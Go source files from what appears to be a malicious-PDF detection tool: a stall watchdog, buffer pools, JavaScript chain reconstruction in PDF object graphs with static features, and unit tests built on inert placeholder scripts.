// StallReport is one captured stall: a document stuck past the deadline
// in a watched phase.
type StallReport struct {
	DocID string    `json:"doc_id"`
	Phase string    `json:"phase"`
	Since time.Time `json:"since"`
	// Stalled is how long the document had been in the phase at capture.
	Stalled time.Duration `json:"stalled_ns"`
	// Goroutines is the full goroutine dump taken at capture
	// (runtime.Stack all=true), bounded by WatchdogConfig.StackBytes.
	Goroutines string `json:"goroutines"`
	// Journal is the document's recent journal context, if a Context
	// fetcher is configured.
	Journal any `json:"journal,omitempty"`
}

// Watchdog watches in-flight documents and captures a goroutine dump
// plus journal context for any stuck past the deadline in a watched
// phase (open/detect by default — the phases where a hostile document
// can wedge the reader sandbox). A stalled document is reported once per
// phase; reports are kept in a bounded newest-first list.
type Watchdog struct {
	cfg    WatchdogConfig
	phases map[string]bool

	mu      sync.Mutex
	docs    map[*InflightDoc]struct{}
	reports []StallReport
	stalls  uint64
	stopped bool
	stop    chan struct{}

	// nowFn is injectable for tests.
	nowFn func() time.Time
}

// NewWatchdog builds and starts a watchdog; Stop ends its scan loop.
func NewWatchdog(cfg WatchdogConfig) *Watchdog {
	if cfg.Deadline <= 0 {
		cfg.Deadline = DefaultStallDeadline
	}
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultStallInterval
	}
	if cfg.MaxStalls <= 0 {
		cfg.MaxStalls = DefaultMaxStalls
	}
	if cfg.StackBytes <= 0 {
		cfg.StackBytes = DefaultStackBytes
	}
	if cfg.Phases == nil {
		cfg.Phases = []string{PhaseOpen, PhaseDetect}
	}
	w := &Watchdog{
		cfg:    cfg,
		phases: make(map[string]bool, len(cfg.Phases)),
		docs:   make(map[*InflightDoc]struct{}),
		stop:   make(chan struct{}),
		nowFn:  time.Now,
	}
	for _, p := range cfg.Phases {
		w.phases[p] = true
		// Preregister the stall counter for every watched phase.
		cfg.Obs.CounterAdd(Series(MetricWatchdogStalls, "phase", p), 0)
	}
	go w.loop()
	return w
}

func (w *Watchdog) now() time.Time {
	if w == nil {
		return time.Now()
	}
	return w.nowFn()
}

// Begin registers a document as in-flight and returns its handle (nil
// receiver returns a nil handle, which is safe everywhere).
func (w *Watchdog) Begin(docID string) *InflightDoc {
	if w == nil {
		return nil
	}
	d := &InflightDoc{wd: w, docID: docID, since: w.now()}
	w.mu.Lock()
	if !w.stopped {
		w.docs[d] = struct{}{}
	}
	w.mu.Unlock()
	return d
}

func (w *Watchdog) remove(d *InflightDoc) {
	if w == nil {
		return
	}
	w.mu.Lock()
	delete(w.docs, d)
	w.mu.Unlock()
}

// Stop ends the scan loop. Idempotent.
func (w *Watchdog) Stop() {
	if w == nil {
		return
	}
	w.mu.Lock()
	if !w.stopped {
		w.stopped = true
		close(w.stop)
	}
	w.mu.Unlock()
}

func (w *Watchdog) loop() {
	t := time.NewTicker(w.cfg.Interval)
	defer t.Stop()
	for {
		select {
		case <-w.stop:
			return
		case <-t.C:
			w.Scan()
		}
	}
}

// Scan checks every in-flight document once and captures reports for
// newly stalled ones. The background loop calls it on each tick; tests
// call it directly for determinism.
func (w *Watchdog) Scan() {
	if w == nil {
		return
	}
	now := w.now()
	w.mu.Lock()
	candidates := make([]*InflightDoc, 0, len(w.docs))
	for d := range w.docs {
		candidates = append(candidates, d)
	}
	w.mu.Unlock()

	type stalled struct {
		docID string
		phase string
		since time.Time
	}
	var hits []stalled
	for _, d := range candidates {
		d.mu.Lock()
		if !d.done && !d.flagged && w.phases[d.phase] && now.Sub(d.since) >= w.cfg.Deadline {
			d.flagged = true
			hits = append(hits, stalled{docID: d.docID, phase: d.phase, since: d.since})
		}
		d.mu.Unlock()
	}
	if len(hits) == 0 {
		return
	}

	// One dump covers every goroutine, including all stalled documents'.
	buf := make([]byte, w.cfg.StackBytes)
	buf = buf[:runtime.Stack(buf, true)]
	dump := string(buf)

	for _, h := range hits {
		rep := StallReport{
			DocID:      h.docID,
			Phase:      h.phase,
			Since:      h.since,
			Stalled:    now.Sub(h.since),
			Goroutines: dump,
		}
		if w.cfg.Context != nil {
			rep.Journal = w.cfg.Context(h.docID)
		}
		w.mu.Lock()
		w.stalls++
		w.reports = append([]StallReport{rep}, w.reports...)
		if len(w.reports) > w.cfg.MaxStalls {
			w.reports = w.reports[:w.cfg.MaxStalls]
		}
		w.mu.Unlock()
		w.cfg.Obs.Inc(Series(MetricWatchdogStalls, "phase", h.phase))
	}
}

// Reports returns the captured stall reports, newest-first.
func (w *Watchdog) Reports() []StallReport {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	out := make([]StallReport, len(w.reports))
	copy(out, w.reports)
	return out
}

// Stalls is the lifetime count of captured stalls.
func (w *Watchdog) Stalls() uint64 {
	if w == nil {
		return 0
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.stalls
}

// Inflight reports how many documents the watchdog is tracking.
func (w *Watchdog) Inflight() int {
	if w == nil {
		return 0
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return len(w.docs)
}

// WatchdogStats summarizes the watchdog for Stats surfaces.
type WatchdogStats struct {
	Inflight int    `json:"inflight"`
	Stalls   uint64 `json:"stalls"`
	// DeadlineSeconds echoes the configured stall deadline.
	DeadlineSeconds float64 `json:"deadline_seconds"`
}

// Stats snapshots the watchdog.
func (w *Watchdog) Stats() WatchdogStats {
	if w == nil {
		return WatchdogStats{}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return WatchdogStats{
		Inflight:        len(w.docs),
		Stalls:          w.stalls,
		DeadlineSeconds: w.cfg.Deadline.Seconds(),
	}
}
