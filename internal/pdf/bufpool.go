package pdf

import (
	"bytes"
	"compress/zlib"
	"io"
	"sync"
)

// The batch pipeline parses, decompresses and reserializes thousands of
// documents; per-call buffer growth and zlib state construction dominated
// its allocation profile. These pools recycle that scratch state across
// calls (and across the worker goroutines of a batch run — sync.Pool is
// goroutine-safe).

// bufPool recycles scratch byte buffers for decode/encode/serialize calls.
var bufPool = sync.Pool{New: func() any { return new(bytes.Buffer) }}

// maxPooledBuf bounds the capacity retained in the pool so one huge
// document does not pin its scratch buffer for the life of the process.
const maxPooledBuf = 4 << 20

func getBuf() *bytes.Buffer { return bufPool.Get().(*bytes.Buffer) }

func putBuf(b *bytes.Buffer) {
	if b == nil || b.Cap() > maxPooledBuf {
		return
	}
	b.Reset()
	bufPool.Put(b)
}

// copyBytes snapshots a pooled buffer's contents into a right-sized slice
// the caller may keep after the buffer returns to the pool.
func copyBytes(b *bytes.Buffer) []byte {
	out := make([]byte, b.Len())
	copy(out, b.Bytes())
	return out
}

// zlibWriterPool recycles flate compressors; zlib.Writer.Reset lets one
// compressor (and its ~1.3 MB of internal window state) serve many streams.
var zlibWriterPool = sync.Pool{New: func() any { return zlib.NewWriter(io.Discard) }}

// zlibReaderPool recycles flate decompressors via zlib.Resetter.
var zlibReaderPool sync.Pool

// getZlibReader returns a decompressor positioned over src, reusing a pooled
// one when available.
func getZlibReader(src io.Reader) (io.ReadCloser, error) {
	if r, ok := zlibReaderPool.Get().(io.ReadCloser); ok && r != nil {
		if err := r.(zlib.Resetter).Reset(src, nil); err != nil {
			zlibReaderPool.Put(r)
			return nil, err
		}
		return r, nil
	}
	return zlib.NewReader(src)
}

func putZlibReader(r io.ReadCloser) {
	if _, ok := r.(zlib.Resetter); ok {
		zlibReaderPool.Put(r)
	}
}
