package pdf

import (
	"fmt"
	"sort"
)

// ScriptLocation says where the bytes of a Javascript snippet physically
// live so the instrumenter can rewrite them in place.
type ScriptLocation struct {
	// HolderNum is the object whose dictionary has the /JS (or /JavaScript)
	// key.
	HolderNum int
	// Key is the dictionary key that holds the script ("JS" in practice;
	// "JavaScript" appears in name-tree dictionaries).
	Key Name
	// DataNum is the object number holding the script bytes when the value
	// is an indirect reference; -1 when the value is stored directly in the
	// holder dictionary.
	DataNum int
	// InStream reports that the script bytes live in a stream body (after
	// filters) rather than in a string object.
	InStream bool
}

// JSChain is one reconstructed Javascript chain: the reference path(s) from
// document roots down to the object holding script data, as described in
// §III-C of the paper.
type JSChain struct {
	// Objects holds every object number on the chain, ancestors plus
	// descendants, ascending.
	Objects []int
	// Holder is the object with the Javascript key.
	Holder int
	// Location pinpoints the script bytes.
	Location ScriptLocation
	// Source is the decoded script text.
	Source string
	// EncodingLevels is the deepest filter chain on any stream of this
	// chain (static feature F5).
	EncodingLevels int
	// Triggered reports whether the chain is reachable from a triggering
	// action (/OpenAction, /AA, the /Names Javascript tree, or a /Next
	// sequence); only triggered chains are instrumented.
	Triggered bool
	// Trigger names the triggering association when Triggered.
	Trigger string
	// NextNums lists holder objects invoked sequentially after this one via
	// /Next, in invocation order (empty for singly-invoked scripts).
	NextNums []int
}

// ChainSet is the result of chain reconstruction over a document.
type ChainSet struct {
	Chains []JSChain
	// ChainObjectCount is the size of the union of objects on all chains.
	ChainObjectCount int
	// TotalObjects is the document object count.
	TotalObjects int
}

// Ratio returns static feature F1: chain objects over total objects.
func (cs ChainSet) Ratio() float64 {
	if cs.TotalObjects == 0 {
		return 0
	}
	return float64(cs.ChainObjectCount) / float64(cs.TotalObjects)
}

// HasJavaScript reports whether any chain was found.
func (cs ChainSet) HasJavaScript() bool { return len(cs.Chains) > 0 }

// MaxEncodingLevels returns the deepest encoding level across chains.
func (cs ChainSet) MaxEncodingLevels() int {
	maxLvl := 0
	for _, c := range cs.Chains {
		if c.EncodingLevels > maxLvl {
			maxLvl = c.EncodingLevels
		}
	}
	return maxLvl
}

// ReconstructChains locates every /JS and /JavaScript holder, backtracks to
// ancestors, forward-searches descendants, extracts script text, and marks
// chains reachable from triggering actions.
func ReconstructChains(d *Document) (ChainSet, error) {
	idx := d.BuildReferenceIndex()
	cs := ChainSet{TotalObjects: d.Len()}

	holders := findJSHolders(d)
	if len(holders) == 0 {
		return cs, nil
	}

	triggerRoots := triggerRootSet(d)
	chainUnion := make(map[int]bool)

	for _, h := range holders {
		chain := JSChain{Holder: h.num, Location: h.loc}

		members := map[int]bool{h.num: true}
		collectAncestors(idx, h.num, members)
		collectDescendants(idx, h.num, members)

		for num := range members {
			chainUnion[num] = true
		}
		chain.Objects = sortedKeys(members)

		src, levels, err := extractScript(d, h)
		if err != nil {
			// Undecodable script data: keep the chain (it still counts for
			// F1) with empty source.
			src, levels = "", chainEncodingLevels(d, members)
		}
		chain.Source = src
		if lv := chainEncodingLevels(d, members); lv > levels {
			levels = lv
		}
		chain.EncodingLevels = levels

		chain.Triggered, chain.Trigger = chainTriggered(members, triggerRoots)
		chain.NextNums = nextSequence(d, h.num)
		cs.Chains = append(cs.Chains, chain)
	}
	cs.ChainObjectCount = len(chainUnion)
	sort.Slice(cs.Chains, func(i, j int) bool { return cs.Chains[i].Holder < cs.Chains[j].Holder })
	return cs, nil
}

type jsHolder struct {
	num int
	loc ScriptLocation
}

func findJSHolders(d *Document) []jsHolder {
	var holders []jsHolder
	for _, num := range d.Numbers() {
		obj := d.objects[num]
		var dict Dict
		switch v := obj.Object.(type) {
		case Dict:
			dict = v
		case *Stream:
			dict = v.Dict
		default:
			continue
		}
		for _, key := range []Name{"JS", "JavaScript"} {
			val, ok := dict[key]
			if !ok {
				continue
			}
			loc := ScriptLocation{HolderNum: num, Key: key, DataNum: -1}
			if ref, isRef := val.(Ref); isRef {
				loc.DataNum = ref.Num
				if _, isStream := d.Resolve(ref).(*Stream); isStream {
					loc.InStream = true
				}
			}
			// A /JavaScript key whose value is a dictionary (e.g. the
			// name-tree entry in the catalog /Names dict) is a trigger
			// marker, not a holder; require string/stream-ish data.
			switch d.Resolve(val).(type) {
			case String, *Stream:
				holders = append(holders, jsHolder{num: num, loc: loc})
			}
		}
	}
	return holders
}

func collectAncestors(idx *ReferenceIndex, start int, members map[int]bool) {
	stack := []int{start}
	for len(stack) > 0 {
		cur := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		for _, p := range idx.Parents[cur] {
			if !members[p] {
				members[p] = true
				stack = append(stack, p)
			}
		}
	}
}

func collectDescendants(idx *ReferenceIndex, start int, members map[int]bool) {
	stack := []int{start}
	for len(stack) > 0 {
		cur := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		for _, c := range idx.Children[cur] {
			if !members[c] {
				members[c] = true
				stack = append(stack, c)
			}
		}
	}
}

func sortedKeys(m map[int]bool) []int {
	out := make([]int, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Ints(out)
	return out
}

// extractScript decodes the script bytes for a holder.
func extractScript(d *Document, h jsHolder) (string, int, error) {
	obj, ok := d.Get(h.num)
	if !ok {
		return "", 0, fmt.Errorf("holder %d: %w", h.num, ErrNotFound)
	}
	var dict Dict
	switch v := obj.Object.(type) {
	case Dict:
		dict = v
	case *Stream:
		dict = v.Dict
	}
	val := dict.Get(h.loc.Key)
	switch v := d.Resolve(val).(type) {
	case String:
		return v.Text(), 0, nil
	case *Stream:
		data, levels, err := DecodeChain(v)
		if err != nil {
			return "", levels, err
		}
		return string(data), levels, nil
	default:
		return "", 0, fmt.Errorf("holder %d key /%s: unsupported script value %s", h.num, h.loc.Key, val.Kind())
	}
}

// chainEncodingLevels is the deepest declared filter chain on any stream
// object among members.
func chainEncodingLevels(d *Document, members map[int]bool) int {
	maxLvl := 0
	for num := range members {
		obj, ok := d.Get(num)
		if !ok {
			continue
		}
		if s, isStream := obj.Object.(*Stream); isStream {
			if n := len(s.Filters()); n > maxLvl {
				maxLvl = n
			}
		}
	}
	return maxLvl
}

// triggerRootSet returns object numbers reachable as the immediate targets
// of triggering actions, mapped to the trigger name.
func triggerRootSet(d *Document) map[int]string {
	roots := make(map[int]string)
	cat, err := d.Catalog()
	if err != nil {
		return roots
	}
	if ref, ok := cat.Get("OpenAction").(Ref); ok {
		roots[ref.Num] = "OpenAction"
	}
	if aa, ok := d.ResolveDict(cat.Get("AA")); ok {
		for _, k := range aa.SortedKeys() {
			if ref, isRef := aa[k].(Ref); isRef {
				roots[ref.Num] = "AA/" + string(k)
			}
		}
	}
	if ref, ok := cat.Get("AA").(Ref); ok {
		roots[ref.Num] = "AA"
	}
	// Names tree: /Names -> /JavaScript -> /Names [ (label) ref ... ] with
	// optional /Kids nesting.
	if names, ok := d.ResolveDict(cat.Get("Names")); ok {
		if ref, isRef := names.Get("JavaScript").(Ref); isRef {
			roots[ref.Num] = "Names/JavaScript"
		}
		if jsTree, ok := d.ResolveDict(names.Get("JavaScript")); ok {
			walkNameTree(d, jsTree, roots, 0)
		}
	}
	// Page-level /AA actions.
	for _, num := range d.Numbers() {
		obj := d.objects[num]
		dict, ok := obj.Object.(Dict)
		if !ok {
			continue
		}
		if t, ok := dict.Get("Type").(Name); !ok || (t != "Page" && t != "Annot") {
			continue
		}
		if aa, ok := d.ResolveDict(dict.Get("AA")); ok {
			for _, k := range aa.SortedKeys() {
				if ref, isRef := aa[k].(Ref); isRef {
					roots[ref.Num] = "Page-AA/" + string(k)
				}
			}
		}
		if ref, ok := dict.Get("AA").(Ref); ok {
			roots[ref.Num] = "Page-AA"
		}
	}
	return roots
}

const maxNameTreeDepth = 32

func walkNameTree(d *Document, node Dict, roots map[int]string, depth int) {
	if depth > maxNameTreeDepth {
		return
	}
	if arr, ok := d.Resolve(node.Get("Names")).(Array); ok {
		// Pairs of (label, action-ref).
		for i := 1; i < len(arr); i += 2 {
			if ref, isRef := arr[i].(Ref); isRef {
				roots[ref.Num] = "Names/JavaScript"
			}
		}
	}
	if kids, ok := d.Resolve(node.Get("Kids")).(Array); ok {
		for _, kid := range kids {
			if ref, isRef := kid.(Ref); isRef {
				roots[ref.Num] = "Names/JavaScript"
			}
			if kd, ok := d.ResolveDict(kid); ok {
				walkNameTree(d, kd, roots, depth+1)
			}
		}
	}
}

func chainTriggered(members map[int]bool, roots map[int]string) (bool, string) {
	// Deterministic: check members in ascending order.
	for _, num := range sortedKeys(members) {
		if trig, ok := roots[num]; ok {
			return true, trig
		}
	}
	return false, ""
}

// nextSequence follows /Next links from the holder's action dictionary,
// returning the holder numbers of subsequently invoked scripts.
func nextSequence(d *Document, holder int) []int {
	var seq []int
	seen := map[int]bool{holder: true}
	cur := holder
	for {
		obj, ok := d.Get(cur)
		if !ok {
			break
		}
		dict, ok := obj.Object.(Dict)
		if !ok {
			break
		}
		ref, ok := dict.Get("Next").(Ref)
		if !ok || seen[ref.Num] {
			break
		}
		seen[ref.Num] = true
		seq = append(seq, ref.Num)
		cur = ref.Num
	}
	return seq
}
