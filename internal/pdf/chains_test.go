package pdf

import (
	"math"
	"testing"
)

// buildChainDoc reproduces the shape of Figure 2 in the paper: a catalog
// with an /OpenAction chain ending in Javascript, a decoy chain ending in an
// empty object, plus content objects off any chain.
func buildChainDoc(t *testing.T) *Document {
	t.Helper()
	d := NewDocument()

	// Real chain: catalog -> action -> stream with script.
	raw, filterObj, err := EncodeChain([]Name{FilterFlate, FilterFlate}, []byte("evil();"))
	if err != nil {
		t.Fatal(err)
	}
	jsData := d.Add(&Stream{Dict: Dict{"Filter": filterObj}, Raw: raw})
	action := d.Add(Dict{"Type": Name("Action"), "S": Name("JavaScript"), "JS": jsData})

	// Decoy chain: a /JS pointing at an empty object via a middle hop would
	// not be a holder (value must resolve to string/stream); instead model
	// the paper's object (6 0): a JS chain ending with an empty stream.
	emptyTarget := d.Add(String{})
	decoy := d.Add(Dict{"S": Name("JavaScript"), "JS": emptyTarget})
	_ = decoy

	// Non-chain content.
	content := d.Add(&Stream{Dict: Dict{}, Raw: []byte("BT ET")})
	page := d.Add(Dict{"Type": Name("Page"), "Contents": content})
	pages := d.Add(Dict{"Type": Name("Pages"), "Kids": Array{page}, "Count": Integer(1)})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	return d
}

func TestReconstructChainsBasic(t *testing.T) {
	d := buildChainDoc(t)
	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if !cs.HasJavaScript() {
		t.Fatal("no chains found")
	}
	if len(cs.Chains) != 2 {
		t.Fatalf("chains = %d, want 2 (real + decoy)", len(cs.Chains))
	}

	var triggered, untriggered *JSChain
	for i := range cs.Chains {
		if cs.Chains[i].Triggered {
			triggered = &cs.Chains[i]
		} else {
			untriggered = &cs.Chains[i]
		}
	}
	if triggered == nil {
		t.Fatal("no triggered chain")
	}
	if triggered.Trigger != "OpenAction" {
		t.Errorf("trigger = %q, want OpenAction", triggered.Trigger)
	}
	if triggered.Source != "evil();" {
		t.Errorf("source = %q", triggered.Source)
	}
	if triggered.EncodingLevels != 2 {
		t.Errorf("encoding levels = %d, want 2", triggered.EncodingLevels)
	}
	if untriggered == nil {
		t.Fatal("decoy chain missing")
	}
	if untriggered.Source != "" {
		t.Errorf("decoy source = %q, want empty", untriggered.Source)
	}
}

func TestChainRatio(t *testing.T) {
	d := buildChainDoc(t)
	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	// The triggered chain's ancestors include the catalog, which pulls in
	// everything referenced transitively below it (pages tree). The decoy
	// chain also joins the union. Total objects: 8.
	if cs.TotalObjects != d.Len() {
		t.Errorf("TotalObjects = %d, want %d", cs.TotalObjects, d.Len())
	}
	ratio := cs.Ratio()
	if ratio <= 0 || ratio > 1 {
		t.Errorf("ratio = %v out of range", ratio)
	}
	// A blank-page malicious doc has ratio near 1; here content objects are
	// on the chain only via catalog descendants.
	if math.IsNaN(ratio) {
		t.Error("ratio is NaN")
	}
}

func TestRatioEmptyDocument(t *testing.T) {
	var cs ChainSet
	if r := cs.Ratio(); r != 0 {
		t.Errorf("empty ratio = %v, want 0", r)
	}
}

func TestChainNamesTreeTrigger(t *testing.T) {
	d := NewDocument()
	jsAction := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("f();")}})
	tree := d.Add(Dict{"Names": Array{String{Value: []byte("snippet1")}, jsAction}})
	names := d.Add(Dict{"JavaScript": tree})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Names": names})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 {
		t.Fatalf("chains = %d, want 1", len(cs.Chains))
	}
	if !cs.Chains[0].Triggered {
		t.Error("names-tree chain should be triggered")
	}
	if cs.Chains[0].Trigger != "Names/JavaScript" {
		t.Errorf("trigger = %q", cs.Chains[0].Trigger)
	}
}

func TestChainNamesTreeKids(t *testing.T) {
	d := NewDocument()
	jsAction := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("g();")}})
	leaf := d.Add(Dict{"Names": Array{String{Value: []byte("n")}, jsAction}})
	root := d.Add(Dict{"Kids": Array{leaf}})
	names := d.Add(Dict{"JavaScript": root})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Names": names})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 || !cs.Chains[0].Triggered {
		t.Fatalf("kids-nested names tree not handled: %+v", cs.Chains)
	}
}

func TestChainPageAATrigger(t *testing.T) {
	d := NewDocument()
	action := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("h();")}})
	page := d.Add(Dict{"Type": Name("Page"), "AA": Dict{"O": action}})
	pages := d.Add(Dict{"Type": Name("Pages"), "Kids": Array{page}})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Pages": pages})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 || !cs.Chains[0].Triggered {
		t.Fatal("page /AA chain should be triggered")
	}
	if cs.Chains[0].Trigger != "Page-AA/O" {
		t.Errorf("trigger = %q", cs.Chains[0].Trigger)
	}
}

func TestChainNextSequence(t *testing.T) {
	d := NewDocument()
	third := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("three();")}})
	second := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("two();")}, "Next": third})
	first := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("one();")}, "Next": second})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "OpenAction": first})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 3 {
		t.Fatalf("chains = %d, want 3", len(cs.Chains))
	}
	var firstChain *JSChain
	for i := range cs.Chains {
		if cs.Chains[i].Holder == first.Num {
			firstChain = &cs.Chains[i]
		}
	}
	if firstChain == nil {
		t.Fatal("first chain not found")
	}
	if len(firstChain.NextNums) != 2 {
		t.Fatalf("NextNums = %v, want 2 entries", firstChain.NextNums)
	}
	if firstChain.NextNums[0] != second.Num || firstChain.NextNums[1] != third.Num {
		t.Errorf("NextNums = %v, want [%d %d]", firstChain.NextNums, second.Num, third.Num)
	}
}

func TestChainNextLoopTerminates(t *testing.T) {
	d := NewDocument()
	a := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("a();")}})
	b := d.Add(Dict{"S": Name("JavaScript"), "JS": String{Value: []byte("b();")}, "Next": a})
	// Close the loop: a -> b.
	objA, _ := d.Get(a.Num)
	objA.Object.(Dict)["Next"] = b
	catalog := d.Add(Dict{"Type": Name("Catalog"), "OpenAction": a})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cs.Chains {
		if len(c.NextNums) > 2 {
			t.Errorf("loop not bounded: %v", c.NextNums)
		}
	}
}

func TestNoJavaScriptNoChains(t *testing.T) {
	d := NewDocument()
	page := d.Add(Dict{"Type": Name("Page")})
	pages := d.Add(Dict{"Type": Name("Pages"), "Kids": Array{page}})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Pages": pages})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if cs.HasJavaScript() {
		t.Error("found chains in a scriptless document")
	}
	if cs.Ratio() != 0 {
		t.Errorf("ratio = %v, want 0", cs.Ratio())
	}
}

func TestBlankPageMaliciousRatioHigh(t *testing.T) {
	// Typical malicious layout: one blank page, the rest of the document is
	// the Javascript chain. Chain objects: js, action, catalog (ancestor on
	// the reference path); page and pages are off-path -> ratio 3/5.
	d := NewDocument()
	js := d.Add(String{Value: []byte("spray();")})
	action := d.Add(Dict{"S": Name("JavaScript"), "JS": js})
	page := d.Add(Dict{"Type": Name("Page")})
	pages := d.Add(Dict{"Type": Name("Pages"), "Kids": Array{page}})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if r := cs.Ratio(); r < 0.59 || r > 0.61 {
		t.Errorf("blank-page malicious ratio = %v, want 0.6", r)
	}
}

func TestDegenerateMaliciousRatioOne(t *testing.T) {
	// The paper found 64 samples with ratio exactly 1: every object in the
	// document sits on the Javascript chain (no page content at all).
	d := NewDocument()
	js := d.Add(String{Value: []byte("spray();")})
	action := d.Add(Dict{"S": Name("JavaScript"), "JS": js})
	catalog := d.Add(Dict{"Type": Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog

	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if r := cs.Ratio(); r != 1 {
		t.Errorf("degenerate malicious ratio = %v, want 1", r)
	}
}
