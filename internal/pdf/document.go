package pdf

import (
	"errors"
	"fmt"
	"sort"
)

// ErrNotFound is returned when an object or dictionary entry is missing.
var ErrNotFound = errors.New("pdf: object not found")

// Document is an in-memory PDF document: a numbered object store plus
// trailer and header metadata. It supports both parsed documents and
// documents built from scratch (corpus generation, instrumentation output).
type Document struct {
	// Header describes the %PDF- header as found in the source bytes.
	Header HeaderInfo
	// Trailer is the trailer dictionary (at minimum /Root).
	Trailer Dict
	// Recovered reports that the lenient scavenger was needed.
	Recovered bool
	// HexNameCount counts names that used #xx escapes in the source.
	HexNameCount int
	// SourceSize is the byte size of the parsed source (0 for built docs).
	SourceSize int

	objects map[int]IndirectObject
	maxNum  int
}

func newDocument(src []byte) *Document {
	return &Document{
		objects:    make(map[int]IndirectObject),
		Trailer:    nil,
		SourceSize: len(src),
	}
}

// NewDocument returns an empty document with a valid 1.7 header.
func NewDocument() *Document {
	return &Document{
		Header:  HeaderInfo{Offset: 0, Version: "1.7", ValidVersion: true},
		Trailer: Dict{},
		objects: make(map[int]IndirectObject),
	}
}

func (d *Document) put(obj IndirectObject) {
	d.objects[obj.Num] = obj
	if obj.Num > d.maxNum {
		d.maxNum = obj.Num
	}
}

// Put inserts or replaces an indirect object.
func (d *Document) Put(obj IndirectObject) { d.put(obj) }

// Add allocates the next free object number for body and returns its ref.
func (d *Document) Add(body Object) Ref {
	d.maxNum++
	d.put(IndirectObject{Num: d.maxNum, Object: body})
	return Ref{Num: d.maxNum}
}

// Delete removes an object by number.
func (d *Document) Delete(num int) { delete(d.objects, num) }

// Get returns the indirect object with the given number.
func (d *Document) Get(num int) (IndirectObject, bool) {
	obj, ok := d.objects[num]
	return obj, ok
}

// Len returns the number of indirect objects.
func (d *Document) Len() int { return len(d.objects) }

// MaxNum returns the highest allocated object number.
func (d *Document) MaxNum() int { return d.maxNum }

// Numbers returns all object numbers in ascending order.
func (d *Document) Numbers() []int {
	nums := make([]int, 0, len(d.objects))
	for n := range d.objects {
		nums = append(nums, n)
	}
	sort.Ints(nums)
	return nums
}

// Resolve follows indirect references until a non-reference object is
// reached. Reference loops and dangling references resolve to Null.
func (d *Document) Resolve(obj Object) Object {
	seen := make(map[int]bool)
	for {
		ref, ok := obj.(Ref)
		if !ok {
			return obj
		}
		if seen[ref.Num] {
			return Null{}
		}
		seen[ref.Num] = true
		io, ok := d.objects[ref.Num]
		if !ok {
			return Null{}
		}
		obj = io.Object
	}
}

// ResolveDict resolves obj and returns it as a Dict when possible.
func (d *Document) ResolveDict(obj Object) (Dict, bool) {
	switch v := d.Resolve(obj).(type) {
	case Dict:
		return v, true
	case *Stream:
		return v.Dict, true
	default:
		return nil, false
	}
}

// Catalog returns the document catalog dictionary.
func (d *Document) Catalog() (Dict, error) {
	if d.Trailer == nil {
		return nil, fmt.Errorf("catalog: %w (no trailer)", ErrNotFound)
	}
	cat, ok := d.ResolveDict(d.Trailer.Get("Root"))
	if !ok {
		return nil, fmt.Errorf("catalog: %w", ErrNotFound)
	}
	return cat, nil
}

// CatalogRef returns the reference held in /Root, if any.
func (d *Document) CatalogRef() (Ref, bool) {
	ref, ok := d.Trailer.Get("Root").(Ref)
	return ref, ok
}

// IsEmptyObject reports whether an object body counts as an "empty object"
// for static feature F4: a null body, an empty dictionary, or an empty
// array. Malicious documents use these as decoys at the end of Javascript
// chains.
func IsEmptyObject(obj Object) bool {
	switch v := obj.(type) {
	case nil, Null:
		return true
	case Dict:
		return len(v) == 0
	case Array:
		return len(v) == 0
	case String:
		return len(v.Value) == 0
	default:
		return false
	}
}

// CountEmptyObjects returns the number of empty indirect objects in the
// document (static feature F4).
func (d *Document) CountEmptyObjects() int {
	count := 0
	for _, obj := range d.objects {
		if IsEmptyObject(obj.Object) {
			count++
		}
	}
	return count
}

// refsIn collects every Ref appearing anywhere inside obj.
func refsIn(obj Object, out []Ref) []Ref {
	switch v := obj.(type) {
	case Ref:
		out = append(out, v)
	case Array:
		for _, el := range v {
			out = refsIn(el, out)
		}
	case Dict:
		for _, k := range v.SortedKeys() {
			out = refsIn(v[k], out)
		}
	case *Stream:
		out = refsIn(v.Dict, out)
	}
	return out
}

// ReferenceIndex maps each object number to the object numbers that
// reference it (parents) and that it references (children).
type ReferenceIndex struct {
	Parents  map[int][]int
	Children map[int][]int
